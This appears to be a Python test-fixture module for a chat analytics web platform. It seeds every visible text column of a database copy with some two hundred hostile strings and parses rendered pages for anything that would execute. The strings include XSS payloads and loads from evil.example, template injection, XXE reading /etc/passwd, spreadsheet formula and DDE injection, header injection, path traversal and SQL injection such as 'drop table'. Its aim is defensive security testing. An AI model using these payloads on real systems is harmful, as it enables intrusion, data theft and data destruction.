"""Texts that somebody could write to break a page, and a published file that is full of them.

What belongs here: the texts, putting them into every text column that people see, finding in a page what would run.
What does not: claims.
"""

from __future__ import annotations

import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import duckdb

from chat_platform.storage.workspace import Workspace
from chat_platform.web import quiz_messages
from chat_platform.web.quiz_messages import LONGEST, SHORTEST, callable_names, is_fit

_MARKUP = (
    "<script>hostile()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=hostile()>",
    "<svg onload=hostile()>",
    "<svg><script>hostile()</script></svg>",
    "<svg><animate onbegin=hostile() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>hostile()</script>'></iframe>",
    "<body onload=hostile()>",
    "<details open ontoggle=hostile()>",
    "<a href='javascript:hostile()'>x</a>",
    "<math><mi//xlink:href='data:x,<script>hostile()</script>'>",
    "<form action=javascript:hostile()><button>x</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=//evil.example></object>",
    "<input autofocus onfocus=hostile()>",
    "<marquee onstart=hostile()>",
    "<noscript><p title='</noscript><img src=x onerror=hostile()>'>",
    "<template><script>hostile()</script></template>",
    "<div hx-get='//evil.example' hx-trigger=load></div>",
    "<div hx-on:load='hostile()' hx-trigger='load'></div>",
    "<x onclick=hostile() tabindex=1 autofocus>",
    "<!--><script>hostile()</script-->",
    "<![CDATA[<script>hostile()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;hostile()&lt;/script&gt;",
    "&#x3c;script>hostile()&#x3c;/script>",
    "<scr\x00ipt>hostile()</scr\x00ipt>",
)
_BREAKERS = (
    "</script><script>hostile()</script>",
    "</SCRIPT ><script>hostile()</script>",
    "<!--<script>",
    '"}]</script><img src=x onerror=hostile()>',
    "\\u003c/script>",
    "\u2028\u2029",
    "</title><script>hostile()</script>",
    "</textarea><script>hostile()</script>",
    "</style><script>hostile()</script>",
    '" onmouseover="hostile()" x="',
    "' onmouseover='hostile()' x='",
    "` onmouseover=hostile() x=`",
    '"><script>hostile()</script>',
    "'><script>hostile()</script>",
    "--><script>hostile()</script>",
    "]]><script>hostile()</script>",
    "</option></select><script>hostile()</script>",
    "</td></table><script>hostile()</script>",
    "</pre></code><script>hostile()</script>",
    "```</code><script>hostile()</script>```",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% print(7*7) %}",
    "{{ visit.account.csrf_token }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('hostile()')()}}",
    "%(name)s %s %d {0} {name!r}",
)
_ADDRESSES = (
    "javascript:hostile()",
    "JaVaScRiPt:hostile()",
    "java\tscript:hostile()",
    "data:text/html,<script>hostile()</script>",
    "vbscript:hostile()",
    "file:///etc/passwd",
    'https://evil.example/"onmouseover="hostile()',
    "https://evil.example/<script>hostile()</script>",
    "https://evil.example/'onmouseover='hostile()",
    "http://[::1",
    "http://evil.example:99999999/",
    "https://user:password@evil.example/",
    "//evil.example/x",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/%0d%0aSet-Cookie:x=1",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '","=1+1',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "'=1+1",
)
_HEADERS = (
    "x\r\nSet-Cookie: hostile=1",
    "x\nLocation: //evil.example",
    "x\r\n\r\n<script>hostile()</script>",
    "x\u010d\u010aSet-Cookie: hostile=1",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON.txt",
    "x;filename=evil.exe",
    'x"; filename="evil.exe',
    "x%00.html",
)
_DIRECTIONS = (
    "\u202egnp.exe",
    "\u202dhostile\u202c",
    "\u2066hostile\u2069",
    "abc\u200bdef",
    "\u200b\u200b\u200b",
    "\ufeffhostile",
    "a\u0301" * 40,
    "\u0e47" * 200,
    "\U000e0001\U000e0020\U000e007f",
    "\u115f\u3164\uffa0",
    "👩‍👩‍👧‍👦" * 20,
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08hostile",
    "ﷺ" * 50,
    "x" * 5_000,
)
_QUERIES = (
    "'; drop table core.messages; --",
    "' or '1'='1",
    '" or ""="',
    "%' union select 1,2,3 --",
    "\\'; select 1; --",
    "1; attach '/etc/passwd'",
    "x') or true --",
    "%_%",
    "\x1f\x1f",
    "$1 ? :x @x",
)


def hostile_texts() -> list[str]:
    """Two hundred texts, all different."""
    plain = [*_MARKUP, *_BREAKERS, *_TEMPLATES, *_ADDRESSES, *_FORMULAS, *_HEADERS, *_DIRECTIONS, *_QUERIES]
    mixed = [f"안녕 {text} 🔥" for text in (*_MARKUP, *_BREAKERS, *_TEMPLATES, *_ADDRESSES)]
    return (plain + mixed)[:200]


TEXTS = hostile_texts()
_COLUMNS = {
    "core.messages": ("text", "clean_text", "author_name"),
    "core.reactions": ("emoji", "reactor_name"),
    "core.conversations": ("title", "link"),
    "core.people": ("name", "team", "position"),
    "core.participants": ("display_name",),
    "core.identities": ("display_name", "name_part"),
    "core.quarantine": ("excerpt", "detail"),
    "core.tokens": ("form", "lemma"),
    "intermediate.int_participants": ("name",),
    "marts.lectures": ("title", "link"),
    "marts.lecture_peaks": ("title", "link"),
    "marts.lecture_questions": ("title", "name", "text", "link"),
    "marts.lecture_words": ("lemma", "title"),
    "marts.lecture_speakers": ("name", "title"),
    "marts.top_messages": ("text", "name", "conversation_title", "link"),
    "marts.open_questions": ("text", "name", "title", "link"),
    "marts.question_summary": ("title",),
    "marts.question_topics": ("lemma", "title"),
    "marts.similar_questions": ("text",),
    "marts.talkers": ("name",),
    "marts.reacted": ("name",),
    "marts.reactors": ("name",),
    "marts.participation_daily": ("name",),
    "marts.participation_trend": ("name",),
    "marts.teacher_responses": ("name",),
    "marts.person_words": ("name", "lemma"),
    "marts.person_distinctive_words": ("name", "lemma"),
    "marts.silent_people": ("name",),
    "core.channels": ("display_name", "url"),
    "core.videos": ("title",),
    "intermediate.int_emote_days": ("code",),
    "intermediate.int_video_emotes": ("code",),
    "marts.emotes_by_channel": ("code", "channel"),
    "marts.emotes_by_day": ("code",),
    "marts.emotes_rising": ("code",),
    "marts.streamer_days": ("channel",),
    "marts.streamer_ranking": ("channel", "url"),
    "marts.streamer_overtakes": ("channel", "passed_channel"),
    "marts.stream_videos": ("channel", "title", "link"),
    "marts.stream_video_days": ("title",),
    "marts.stream_video_ranking": ("channel", "title", "link"),
    "marts.stream_video_overtakes": ("title", "passed_title"),
}


BUILD = "hostile.duckdb"
"""Name of the file that ``poison`` publishes, beside the build file."""


def poison(home: Path, workspace: Workspace) -> Path:
    """Publish a copy of what is published in which every text that people see is hostile.

    Rows take the texts in turn, so all two hundred are on some page where there are enough rows; two that the author
    model was tested on take some that the quiz may ask about.

    Returns:
        The file that was published, to be asked what pages should show.
    """
    build = home / "warehouse" / BUILD
    shutil.copyfile(workspace.publication.current().path, build)
    with duckdb.connect(str(build)) as connection:
        for table, columns in _COLUMNS.items():
            for shift, column in enumerate(columns):
                connection.execute(
                    f"update {table} set {column} = ?[1 + (rowid + ?) % ?] where {column} is not null or ? = 'link'",
                    [TEXTS, shift * 7, len(TEXTS), column],
                )
        _fit_for_the_quiz(connection)
    workspace.publication.publish(build)
    return build


def _fit_for_the_quiz(connection: duckdb.DuckDBPyConnection) -> None:
    """Two held-out messages of two people, as whoever plays may be one of them, that lead to nobody.

    Few of the texts do not contain a word of another, which after ``poison`` is a name.
    """
    known = callable_names(name for (name,) in connection.execute(quiz_messages._NAMES).fetchall())
    fit = [text for text in TEXTS if SHORTEST <= len(text) <= LONGEST and is_fit(text, text, known)]
    held_out = connection.execute(
        "select person_id, any_value(message_id) from core.messages inner join core.identities using (identity_id) "
        "where message_id in (select message_id from ml.author_predictions) and person_id is not null "
        "group by person_id order by person_id limit 2"
    ).fetchall()
    for text, (_, message_id) in zip(fit, held_out, strict=False):
        connection.execute(
            "update core.messages set text = $text, clean_text = $text, language = 'en', visibility = 'everyone', "
            "removed = false where message_id = $message_id",
            {"text": text, "message_id": message_id},
        )


class Page(HTMLParser):
    """What of a page would run, load or lead somewhere, and the text that is shown.

    Attributes:
        ran: scripts that are not our bundle or an island of data, attributes of events, addresses that run.
        outside: addresses of other hosts that load by themselves.
        links: addresses of links.
        islands: contents of data islands.
    """

    LOADING = ("src", "srcset", "poster", "background", "srcdoc", "formaction", "manifest", "ping")
    EVERY = frozenset(
        """
        html head meta title link script body a header footer img span nav div details summary main section h1 h2 h3
        p dl dt dd ol ul li table caption thead tbody tr th td time bdi strong em small ins del hr br blockquote code
        pre form input button label select option textarea fieldset legend meter progress
        svg path circle rect line polyline g use
        """.split()  # noqa: SIM905
    )
    OF_HEAD = frozenset({"style", "noscript"})
    """One of each, before anything of the body."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.ran: list[str] = []
        self.outside: list[str] = []
        self.links: list[str] = []
        self.islands: list[str] = []
        self._texts: list[str] = []
        self._island: list[str] | None = None
        self._allowed: set[str] = set()
        self.feed(markup)
        self.close()
        self.text = "".join(self._texts)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in ("head", "body"):
            self._allowed = set(self.OF_HEAD) if tag == "head" else set()
        if tag in self._allowed:
            self._allowed.remove(tag)
        elif tag not in self.EVERY:
            self.ran.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith(("on", "hx-on", "style")):
                self.ran.append(f"{name}={value}")
            if name in self.LOADING and not value.startswith("/"):
                self.outside.append(value)
            if name in ("hx-get", "hx-post", "action") and not value.startswith("/"):
                self.outside.append(value)
        if tag == "a":
            address = given.get("href", "")
            self.links.append(address)
            if not address.startswith(("/", "#", "?", "http://", "https://")):
                self.ran.append(address)
        if tag == "link" and not given.get("href", "").startswith("/"):
            self.outside.append(given.get("href", ""))
        if tag == "script":
            if given.get("type") == "application/json":
                self._island = []
            elif not given.get("src", "").startswith("/static/"):
                self.ran.append("script")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._island is not None:
            self.islands.append("".join(self._island))
            json.loads(self.islands[-1])
            self._island = None

    def handle_data(self, data: str) -> None:
        (self._texts if self._island is None else self._island).append(data)
